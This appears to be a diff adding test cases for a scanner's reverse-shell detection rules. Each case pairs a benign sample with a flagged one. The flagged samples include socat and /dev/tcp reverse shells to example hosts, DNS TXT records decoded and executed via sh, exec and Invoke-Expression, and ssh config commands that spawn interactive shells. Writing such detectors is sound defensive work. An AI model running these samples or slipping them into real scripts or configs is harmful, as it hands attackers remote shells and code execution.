@@ -278,3 +278,51 @@ describe('adversarial socket command loops', () => {
     expect(performance.now() - start).toBeLessThan(1000);
   });
 });
+
+describeRuleCases('reverse-shell (addresses in variables, DNS command channels, ssh_config commands)', [
+  {
+    id: 'SG-RSHELL-008',
+    file: 'tools/keepalive.sh',
+    positive:
+      '#!/bin/bash\nTARGET="tcp:mirror.example.org:9443"\nSHELLADDR="system:bash -i,pty,stderr"\nfor i in 1 2 3; do\n  socat "$SHELLADDR" "$TARGET" || sleep 30\ndone\n',
+    negative:
+      '#!/bin/bash\nTARGET="tcp:db.example.org:5432"\nsocat TCP-LISTEN:15432,fork,reuseaddr "$TARGET"\n',
+  },
+  {
+    id: 'SG-RSHELL-009',
+    file: 'tools/Update-Rules.ps1',
+    positive:
+      "$rec = Resolve-DnsName -Name 'cfg.example.net' -Type TXT\n$code = ($rec | ForEach-Object { $_.Strings }) -join ''\nInvoke-Expression $code\n",
+    negative:
+      "$rec = Resolve-DnsName -Name '_dmarc.example.net' -Type TXT\n$policy = ($rec | ForEach-Object { $_.Strings }) -join ''\nWrite-Output \"DMARC: $policy\"\n",
+  },
+  {
+    id: 'SG-RSHELL-009',
+    file: 'bin/refresh.sh',
+    positive:
+      '#!/bin/sh\nnslookup -q=txt upd.example.com 2>/dev/null | grep -o \'"[^"]*"\' | tr -d \'"\' | base64 -d | sh\n',
+    negative: '#!/bin/sh\nnslookup -q=txt example.com | grep spf1 > spf.txt\n',
+  },
+  {
+    id: 'SG-RSHELL-009',
+    file: 'lib/policy.py',
+    positive:
+      'import dns.resolver, base64\nans = dns.resolver.resolve("p.example.io", "TXT")\nblob = b"".join(r.strings[0] for r in ans)\nexec(base64.b64decode(blob))\n',
+    negative:
+      'import dns.resolver\nans = dns.resolver.resolve("example.io", "TXT")\nspf = [r.strings[0] for r in ans if r.strings[0].startswith(b"v=spf1")]\nprint(spf)\n',
+  },
+  {
+    id: 'SG-RSHELL-002',
+    file: 'conf/ssh_client.conf',
+    positive: 'Host *\n    ServerAliveInterval 20\n    ProxyCommand socat - EXEC:"/bin/zsh -i",pty,stderr\n',
+    negative:
+      'Host jump\n    HostName jump.example.org\n    ProxyCommand nc -X connect -x proxy.example.org:3128 %h %p\n',
+  },
+  {
+    id: 'SG-RSHELL-001',
+    file: 'templates/ssh.tmpl',
+    positive:
+      'Match all\n    PermitLocalCommand yes\n    LocalCommand bash -i >& /dev/tcp/198.51.100.20/7001 0>&1 &\n',
+    negative: 'Match all\n    PermitLocalCommand yes\n    LocalCommand echo connected to %h >> ~/.ssh/log\n',
+  },
+]);
